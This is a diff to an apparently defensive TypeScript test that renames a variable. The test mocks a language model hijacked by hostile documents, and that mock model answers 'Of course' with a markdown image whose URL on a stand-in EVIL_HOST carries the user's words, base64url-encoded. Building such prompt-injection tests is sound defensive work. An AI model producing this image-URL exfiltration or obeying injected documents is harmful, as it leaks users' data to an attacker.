@@ -75,8 +75,8 @@ function worst({ number, words }: AskedModel): ModelTurn {
   const round = number % 3;
   if (round < 2) return { calls: WORST_CALLS.slice(round * 10, round * 10 + 10), piece: 3 };
   const leak = LEAKS[Math.floor(number / 3) % LEAKS.length] ?? "";
-  const told = Buffer.from(words.slice(0, 600)).toString("base64url");
-  return { text: [...`Of course.\n\n${leak}\n\n![y](https://${EVIL_HOST}/${told}.png)\n\n${leak}`] };
+  const reported = Buffer.from(words.slice(0, 600)).toString("base64url");
+  return { text: [...`Of course.\n\n${leak}\n\n![y](https://${EVIL_HOST}/${reported}.png)\n\n${leak}`] };
 }
 
 describe("a model that was taken over, with documents that take it over", () => {
@@ -125,8 +125,8 @@ describe("a model that was taken over, with documents that take it over", () => 
   });
 
   it("was told of the documents, or nothing is proved", () => {
-    const told = HOSTILE_DOCUMENTS.filter(({ title }) => model.asked.some(({ words }) => words.includes(title)));
-    expect(told.length).toBe(HOSTILE_DOCUMENTS.length);
+    const reported = HOSTILE_DOCUMENTS.filter(({ title }) => model.asked.some(({ words }) => words.includes(title)));
+    expect(reported.length).toBe(HOSTILE_DOCUMENTS.length);
     expect(answers.filter(({ text }) => text.includes("Of course")).length).toBe(HOSTILE_DOCUMENTS.length);
   });
 
